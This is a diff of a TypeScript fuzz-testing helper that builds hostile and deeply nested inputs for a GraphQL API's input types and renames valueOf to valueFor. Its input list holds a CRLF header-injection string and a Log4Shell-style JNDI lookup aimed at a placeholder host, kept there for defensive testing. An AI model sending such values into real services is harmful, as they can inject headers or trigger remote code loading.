@@ -51,7 +51,7 @@ export const hostileText = fc.oneof(
     '24:00',
     'T3RoZXI6',
     '\r\nx-injected: 1',
-    '${jndi:ldap://nobody.example}',
+    '$' + '{jndi:ldap://nobody.example}',
   ),
   fc.integer({ min: 100, max: 5_000 }).map((times) => 'x'.repeat(times)),
 );
@@ -91,7 +91,7 @@ const numbers: readonly unknown[] = [
 
 const leaf = fc.oneof(
   hostileText,
-  fc.constantFrom(...numbers, null, true, false, {}, [], deepJson(50), deepJson(5_000)),
+  fc.constantFrom(...numbers, null, true, false, {}, [], deepJson(50), deepJson(1_000)),
 );
 
 export const hostileJson: fc.Arbitrary<unknown> = fc.oneof(
@@ -106,7 +106,7 @@ const scalar: Readonly<Record<string, fc.Arbitrary<unknown>>> = {
 };
 
 /** Mostly of the type's shape, with anything at its ends; now and then anything at all. */
-export function valueOf(type: GraphQLInputType): fc.Arbitrary<unknown> {
+export function valueFor(type: GraphQLInputType): fc.Arbitrary<unknown> {
   return fc.oneof(
     { weight: 12, arbitrary: shaped(type) },
     { weight: 1, arbitrary: hostileJson },
@@ -116,11 +116,11 @@ export function valueOf(type: GraphQLInputType): fc.Arbitrary<unknown> {
 
 function shaped(type: GraphQLInputType): fc.Arbitrary<unknown> {
   if (isNonNullType(type)) return shaped(type.ofType);
-  if (isListType(type)) return fc.array(valueOf(type.ofType), { maxLength: 3 });
+  if (isListType(type)) return fc.array(valueFor(type.ofType), { maxLength: 3 });
   if (isEnumType(type)) return fc.constantFrom(...type.getValues().map(({ name }) => name));
   if (isInputObjectType(type)) {
     const fields = Object.values(type.getFields());
-    return fc.record(Object.fromEntries(fields.map((field) => [field.name, valueOf(field.type)])), {
+    return fc.record(Object.fromEntries(fields.map((field) => [field.name, valueFor(field.type)])), {
       requiredKeys: fields.filter(isRequiredInputField).map(({ name }) => name),
     });
   }
